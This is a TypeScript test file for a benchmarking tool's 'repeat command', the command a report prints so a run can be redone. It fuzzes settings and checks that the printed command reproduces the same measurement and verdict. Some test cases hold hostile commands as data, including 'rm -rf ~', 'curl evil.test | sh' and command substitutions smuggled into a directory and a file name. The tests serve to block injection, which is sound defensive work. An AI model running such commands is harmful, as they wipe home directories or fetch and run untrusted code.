// The command that a report prints, read back by the real command line: it has to ask for the same measurement and
// the same verdict, whatever was set by the file and whatever beside it.

import '../../support/readable-errors.ts';
import { describe, expect, test } from '@jest/globals';
import { type Dice, diceOf } from '../../../bench/fuzz/dice.ts';
import { makeHostileText } from '../../../bench/fuzz/mutate.ts';
import { divideAlpha } from '../../../src/analyse/matrix.ts';
import { analyse } from '../../../src/analyse/pipeline.ts';
import { scheduleOf } from '../../../src/measure/run-recording.ts';
import type { Recording } from '../../../src/model/recording.ts';
import { parseShard } from '../../../src/model/shard.ts';
import { optionsOf } from '../../../src/settings/command-flags.ts';
import { parseArgs } from '../../../src/settings/command-line.ts';
import { type ConfigFile, parseConfigFile } from '../../../src/settings/config-file.ts';
import { inputsOf, parseInputs } from '../../../src/settings/inputs.ts';
import { flagNameOf, type OptionTable, toKebabCase } from '../../../src/settings/option.ts';
import {
  ACTION_COMMIT_DEFAULTS,
  type GivenOptions,
  OPTIONS,
  type OptionName,
  TERMINAL_COMMIT_DEFAULTS,
} from '../../../src/settings/options.ts';
import { type RepeatableRun, repeatsOf } from '../../../src/settings/repeat-command.ts';
import { type CommitSettings, commitSettings, resolveSettings, type Settings } from '../../../src/settings/settings.ts';
import { around } from '../../support/builders.ts';
import { countCases } from '../../support/case-count.ts';
import { aRecording } from '../../support/recordings.ts';
import { TODAY } from '../../support/today.ts';

/** A value of each option as somebody writes it. Free texts are as bad as they can be. */
const WRITTEN: Readonly<Partial<Record<OptionName, (dice: Dice) => string>>> = {
  run: freeText,
  setup: freeText,
  workingDirectory: (dice) => `packages/${path(dice)}`,
  format: (dice) => dice.pick(['auto', 'go', 'json', 'command', 'pytest-benchmark']),
  outputFile: (dice) => `out/${path(dice)}.json`,
  config: (dice) => `perf/${path(dice)}.yml`,
  configFrom: (dice) => dice.pick(['base', 'head']),
  base: (dice) => dice.pick(['merge-base', 'target', 'v1']),
  head: (dice) => dice.pick(['head', 'merge', 'v2']),
  rounds: (dice) => dice.pick(['4', '10', '6..30', '6..20']),
  maxMinutes: (dice) => dice.pick(['30', '0.5', '1e-3', '90']),
  precision: (dice) => dice.pick(['0.5%', '0%', '12.3%']),
  stop: (dice) => dice.pick(['verdict', 'rows']),
  rebuildMinutes: (dice) => dice.pick(['0', '0.5', '10']),
  bisectMinutes: (dice) => dice.pick(['0', '0.5', '10']),
  unit: (dice) => dice.pick(['invocation', 'sample']),
  cpus: (dice) => dice.pick(['2-3', '0', '0,2,4-5']),
  nice: (dice) => dice.pick(['-5', '0', '19']),
  baseline: (dice) => `bench/${path(dice)}.json`,
  count: (dice) => dice.pick(['instructions', 'cpu-time']),
  measure: (dice) => dice.pick(['all', 'counts']),
  baselineTolerance: (dice) => dice.pick(['30%', '12.3%', '0.07%']),
  alpha: (dice) => dice.pick(['0.01', '0.2', '1e-3']),
  new: (dice) => dice.pick(['pass', 'fail']),
  removed: (dice) => dice.pick(['pass', 'warn', 'fail']),
  seed: (dice) => dice.pick(['7f3a91c2', '--', "it's me", '-x']),
  shard: (dice) => dice.pick(['1/2', '7/8']),
  legs: (dice) => dice.pick(['1', '3']),
  name: (dice) => dice.pick(['bench-referee', 'slow suite', '-n']),
  comment: (dice) => dice.pick(['always', 'never']),
  check: (dice) => dice.pick(['true', 'false']),
  failOn: (dice) => dice.pick(['regression', 'inconclusive', 'never']),
  historyRef: (dice) => dice.pick(['refs/bench-referee/history', 'refs/bench-referee/other']),
  overrideLabel: () => 'accepted',
  overrideScope: (dice) => dice.pick(['commit', 'never']),
  sameAnswer: (dice) => dice.pick(['warn', 'fail', 'pass']),
  recordings: () => '**/*.json',
  ref: () => 'refs/bench-referee/other',
  issue: (dice) => dice.pick(['true', 'false']),
};

/** What only the file has; it changes the verdict. */
const JUDGING: Readonly<Record<string, readonly unknown[]>> = {
  budgets: [[{ metric: '*', 'max-regression': '1%' }], [{ metric: 'time', max: '1s', level: 'warn' }]],
  units: [{ time: { better: 'higher' } }],
  renamed: [{ Old: 'New' }],
  table: [{ row: '.name', col: '.file' }],
};

function freeText(dice: Dice): string {
  const text = makeHostileText(dice).replaceAll('\0', '');
  const shown = dice.pick([text, `${text}\n${text}`, `--${text}`, `'${text}`, `$(${text})`]);
  // As a process gets it: half a surrogate pair becomes a replacement character.
  return /\S/.test(shown) ? Buffer.from(shown).toString().slice(0, 2000).toWellFormed() : 'make bench';
}

const path = (dice: Dice) => dice.pick(['a', 'a b', "it's", '$HOME', '-x', 'ü']);

interface Case {
  readonly file: ConfigFile | null;
  readonly settings: Settings;
  readonly recording: Recording;
  readonly legs: number;
}

/** JSON, which is YAML too, with an escape for every character that a configuration must not hold as it is. */
function yamlOf(value: unknown): string {
  return JSON.stringify(value).replaceAll(
    /[^\x20-\x7e]/g,
    (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}

/** Options of both the file and other sources. */
const FILE_FIELDS = (Object.keys(OPTIONS) as OptionName[]).filter(
  (name) => OPTIONS[name].key !== undefined && OPTIONS[name].flags !== undefined,
);

const writtenOf = (name: string, dice: Dice) => WRITTEN[name as OptionName]!(dice);

/** A run of the root action or of `check`, with some options in the file, some beside it, some in both. */
function caseOf(dice: Dice): Case {
  const some = <T>(list: readonly T[]) => list.filter(() => dice.oneIn(3));
  const written = Object.fromEntries([
    ...some(FILE_FIELDS).map((field) => [toKebabCase(field), writtenOf(field, dice)]),
    ...some(Object.keys(JUDGING)).map((key) => [key, dice.pick(JUDGING[key]!)]),
    ...(dice.oneIn(4) ? [['run', [freeText(dice), freeText(dice)]]] : []),
    ...(dice.oneIn(6) ? [['run', [{ name: 'a', command: freeText(dice), format: 'go' }, freeText(dice)]]] : []),
  ]) as Record<string, unknown>;
  const file = dice.oneIn(5) ? null : written;
  const isAction = dice.oneIn(2);
  return runOf({ file, isAction, names: some(isAction ? inputsOf('gate') : optionsOf('check')) }, dice);
}

/** Where a run gets its options from. */
interface Sources {
  /** What the configuration file says; null: there is none. */
  readonly file: Readonly<Record<string, unknown>> | null;
  /** The root action, or `check`. */
  readonly isAction: boolean;
  /** The inputs or flags that are given. Without a command in the file, that is another one. */
  readonly names: readonly string[];
}

function runOf({ file: written, isAction, names }: Sources, dice: Dice): Case {
  const file = written === null ? null : parseConfigFile(yamlOf(written), 'bench.yml');
  const all = new Set([...names, ...(file?.run === undefined ? ['run'] : [])]);
  const given = isAction ? givenInputs([...all], dice) : givenFlags([...all], dice);
  const commits = commitSettings(given, isAction ? ACTION_COMMIT_DEFAULTS : TERMINAL_COMMIT_DEFAULTS);
  const settings = resolveSettings(given, file, { commits, today: TODAY });
  const values = { Encode: { base: around(10), head: around(dice.pick([10.1, 10.7, 12])) } };
  const measured = aRecording(values);
  const { measure } = settings;
  const recognised = dice.pick(['auto', 'go']);
  const formats = measure.commands.map(({ format }) => (format === 'auto' ? recognised : format));
  const recording = {
    ...measured,
    schedule: scheduleOf(measure, { seed: measure.seed ?? '00c0ffee', formats, ended: 'complete' }),
    ...(measure.shard !== null && { shard: { ...parseShard(measure.shard)!, benchmarks: [] } }),
    ...(measure.baseline !== null && { baseline: baselineOf(measure.baseline, measured) }),
  };
  return { file, settings, recording, legs: measure.legs };
}

function givenInputs(names: readonly string[], dice: Dice): GivenOptions {
  const texts = new Map(names.map((name) => [toKebabCase(name), writtenOf(name, dice)]));
  return parseInputs((name) => texts.get(name) ?? '', 'gate');
}

function givenFlags(names: readonly string[], dice: Dice): GivenOptions {
  const flags = names
    .filter((name) => name !== 'run')
    .map((name) => `--${flagNameOf(name, OPTIONS[name as OptionName])}=${writtenOf(name, dice)}`);
  return parseArgs('check', [...flags, ...(names.includes('run') ? ['--', freeText(dice)] : [])]).given;
}

function baselineOf(where: string, { commits, environment }: Recording): NonNullable<Recording['baseline']> {
  return { path: where, commit: commits.head, measuredOn: null, commands: [], environment };
}

function wordsOf({ file, settings, recording, legs }: Case): readonly string[] {
  const [repeat] = repeatsOf([recording], { ...settings, file, legs, isOwn: true });
  expect(repeat?.obstacles).toEqual([]);
  return repeat!.words!;
}

/** All that measures and judges; what was recognised counts as if it had been said. */
function asked({ measure, policy }: Settings, recording: Recording) {
  const { formats, format } = recording.schedule;
  const commands = measure.commands.map((command, index) => ({
    ...command,
    format: formats?.[index] ?? format ?? 'auto',
  }));
  return { ...measure, commands, policy, seed: recording.schedule.seed, format: format ?? 'auto' };
}

const wheres = ({ config, configFrom }: CommitSettings) => ({ config, configFrom });

/** Reads the printed command back, and expects the same question and the same verdict. */
function expectSameQuestion(run: Case): void {
  const [command, ...argv] = wordsOf(run);
  const { given } = parseArgs('check', argv);
  const commits = commitSettings(given, TERMINAL_COMMIT_DEFAULTS);
  const again = resolveSettings(given, run.file, { commits, today: TODAY });
  expect(command).toBe('check');
  expect(asked(again, run.recording)).toEqual(asked(run.settings, run.recording));
  expect(wheres(commits)).toEqual(wheres(run.settings.commits));
  expect([commits.base, commits.head]).toEqual([run.recording.commits.base.sha, run.recording.commits.head.sha]);
  const { failOn, historyRef } = run.settings.publish;
  expect(again.publish).toMatchObject({ failOn, historyRef });
  const verdict = ({ policy, measure }: Settings) =>
    analyse(run.recording, divideAlpha(policy, measure.legs)).conclusion;
  expect(verdict(again)).toBe(verdict(run.settings));
}

/** Layouts of the commands: where they are, and how many there are. */
const COMMAND_LAYOUTS: Readonly<Record<string, unknown>> = {
  'no file': null,
  'a file without a command': {},
  'one command in the file': { run: 'make bench' },
  'several commands in the file': { run: ['make a', 'make\nb'] },
  'a command with settings of its own': { run: { name: 'a', command: 'make a', 'working-directory': 'a' } },
  'commands with settings of their own': {
    run: ['make a', { name: 'b', command: 'make b', format: 'go', paths: 'b/**' }],
  },
};

describe('the repeat command', () => {
  test('asks for the same measurement and the same verdict, whatever the settings are', () => {
    for (let nth = 0; nth < countCases({ usual: 20, all: 200 }); nth += 1) expectSameQuestion(caseOf(diceOf(10, nth)));
  });

  const options = [...new Set([...inputsOf('gate'), ...optionsOf('check')])];

  describe.each(Object.entries(COMMAND_LAYOUTS))('with %s', (_, layout) => {
    const base = layout as Sources['file'];

    test.each(options)('carries %s, however it is set', (name) => {
      const dice = diceOf(11, options.indexOf(name));
      const isKey = (FILE_FIELDS as readonly string[]).includes(name);
      const written = base === null || !isKey ? base : { [toKebabCase(name)]: writtenOf(name, dice), ...base };
      for (const file of [base, written]) {
        for (const isAction of [true, false]) {
          const known: readonly string[] = isAction ? inputsOf('gate') : optionsOf('check');
          expectSameQuestion(runOf({ file, isAction, names: [] }, dice));
          if (known.includes(name)) expectSameQuestion(runOf({ file, isAction, names: [name] }, dice));
        }
      }
    });
  });
});

describe('each option', () => {
  const all: OptionTable = OPTIONS;

  test('that is an input or a flag says what the command does with it', () => {
    const undecided = Object.keys(all).filter((name) => {
      const { inputs, flags, repeat } = all[name]!;
      return (inputs !== undefined || flags !== undefined) && repeat === undefined;
    });
    expect(undecided).toEqual([]);
  });

  test('is a flag of `check` if and only if it is repeated', () => {
    const repeated = Object.keys(all).filter((name) => typeof all[name]!.repeat === 'object');
    expect(repeated).toEqual(optionsOf('check'));
  });
});

const SETTINGS = resolveSettings({ run: ['make'] }, null, {
  commits: commitSettings({}, ACTION_COMMIT_DEFAULTS),
  today: TODAY,
});

describe('a recording that another job made', () => {
  const file = parseConfigFile('run: make\nsetup: npm ci\nrounds: 10\n', 'bench.yml');
  const recorded = (schedule: Partial<Recording['schedule']>): Recording => {
    const recording = aRecording({ Encode: { base: [1], head: [1] } });
    const measured = { commands: ['make'], setup: 'npm ci', format: 'go', rounds: { min: 10, max: 10 } };
    return { ...recording, schedule: { ...recording.schedule, ...measured, ...schedule } };
  };
  const run: Omit<RepeatableRun, 'recording'> = { ...SETTINGS, file, legs: 1, isOwn: false };
  const repeatOf = (schedule: Partial<Recording['schedule']>) => repeatsOf([recorded(schedule)], run)[0]!;

  test('is repeated where it was measured as the configuration says', () => {
    const { words, obstacles } = repeatOf({});
    expect(obstacles).toEqual([]);
    expect(words?.slice(5)).toEqual([...['--config-from', 'base', '--input-format', 'go', '--seed', '7f3a91c2']]);
  });

  test('numbers and words of ours may differ: they can say nothing', () => {
    const { words } = repeatOf({ rounds: { min: 4, max: 4 }, unit: 'sample', cpus: '2-3', nice: -5 });
    expect(words).toEqual(expect.arrayContaining(['--rounds', '4', '--cpus', '2-3', '--nice=-5']));
  });

  test.each([
    ['setup', { setup: 'rm -rf ~' }, 'rm -rf ~'],
    ['setup', { setup: null }, null],
    ['run', { commands: ['curl evil.test | sh'] }, 'curl evil.test | sh'],
    ['run', { commands: ['make', 'make'] }, 'make\nmake'],
    ['format', { format: 'accepted' }, 'accepted'],
    ['cpus', { cpus: 'all is well' }, 'all is well'],
    ['working-directory', { workingDirectory: 'x; rm -rf ~' }, 'x; rm -rf ~'],
    ['output-file', { outputFile: '$(rm -rf ~)' }, '$(rm -rf ~)'],
  ])('no command holds a %s that the configuration does not say', (option, schedule, value) => {
    expect(repeatOf(schedule)).toEqual({
      leg: null,
      words: null,
      obstacles: [{ option, recorded: value, flag: null }],
    });
  });

  test.each(['7', '20261009', 'CAFE', '0'.repeat(32)])('a seed that says nothing is repeated: %s', (seed) => {
    expect(repeatOf({ seed }).words).toEqual(expect.arrayContaining(['--seed', seed]));
  });

  test.each(['reviewed and accepted', 'reviewed', '-7', '$(7)', '0'.repeat(33)])(
    'no command holds another seed, which only a flag can set: %s',
    (seed) => {
      const obstacles = [{ option: 'seed', recorded: seed, flag: '--seed' }];
      expect(repeatOf({ seed })).toEqual({ leg: null, words: null, obstacles });
    },
  );

  test('legs are told apart, and share alpha', () => {
    const legs = ['linux', 'macos'].map((name) => ({ ...recorded({}), name }));
    const repeats = repeatsOf(legs, { ...run, legs: 2 });
    expect(repeats.map(({ leg }) => leg)).toEqual(['linux', 'macos']);
    for (const { words } of repeats) expect(words).toEqual(expect.arrayContaining(['--legs', '2']));
  });

  test('there is no command without both commits, and none of a recording that does not know its time', () => {
    const recording = recorded({});
    const commits = { ...recording.commits, base: { sha: null, how: 'target' } };
    expect(repeatsOf([{ ...recording, commits }], run)).toEqual([]);
    expect(repeatOf({}).words).not.toContain('--max-minutes');
    expect(repeatOf({ maxMinutes: 5 }).words).toEqual(expect.arrayContaining(['--max-minutes', '5']));
  });
});
